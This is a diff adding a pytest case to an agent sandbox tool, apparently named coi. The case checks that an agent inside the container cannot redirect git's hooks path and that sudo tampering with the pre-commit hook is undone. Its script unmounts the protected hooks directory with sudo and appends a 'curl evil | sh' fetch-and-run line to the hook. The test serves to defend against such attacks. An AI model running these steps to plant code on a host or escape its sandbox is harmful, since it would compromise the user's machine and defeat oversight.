@@ -134,3 +134,33 @@ def test_custom_build_installs_a_package_and_a_failing_script_leaves_nothing(
     assert not [n for n in client.instances.names() if n.startswith("coi-build-")]
     res = run_coi("build", "custom", "x", "--script", str(tmp_path / "nope.sh"), env=build_env)
     assert res.returncode == 2 and "build script not found" in res.stderr
+
+
+def test_git_cannot_set_hooks_path_and_sudo_tampering_is_undone(
+    build_env: dict[str, str], tmp_path: Path, coi_image: str
+) -> None:
+    """In the real image the agent has git and passwordless sudo: both attacks, both stopped."""
+    import subprocess
+
+    ws = tmp_path / "repo"
+    subprocess.run(["git", "init", "-q", str(ws)], check=True)
+    hook = ws / ".git" / "hooks" / "pre-commit"
+    hook.write_text("#!/bin/sh\nexit 0\n")
+    hook.chmod(0o755)
+    config = (ws / ".git" / "config").read_text()
+    for root, dirs, files in os.walk(ws):
+        for n in [root, *dirs, *files]:
+            os.lchown(os.path.join(root, n), 1500, 1500)  # mapped to the agent user inside
+    script = (
+        "git config core.hooksPath /workspace/evil; echo config=$?; "
+        "sudo umount /workspace/.git/hooks && echo 'curl evil | sh' | "
+        "sudo tee -a .git/hooks/pre-commit >/dev/null; echo sudo=$?; "
+        "cat .git/hooks/pre-commit"
+    )
+    res = run_coi("run", "-w", str(ws), "--", "sh", "-c", script, env=build_env, timeout=300)
+    assert res.returncode == 0, res.stderr
+    assert "config=0" not in res.stdout and "sudo=0" in res.stdout, res.stdout
+    assert "curl evil" in res.stdout  # root inside did get through the mount...
+    assert hook.read_text() == "#!/bin/sh\nexit 0\n"  # ...and coi put the hook back
+    assert (ws / ".git" / "config").read_text() == config
+    assert ".git/hooks/pre-commit (content changed)" in res.stderr
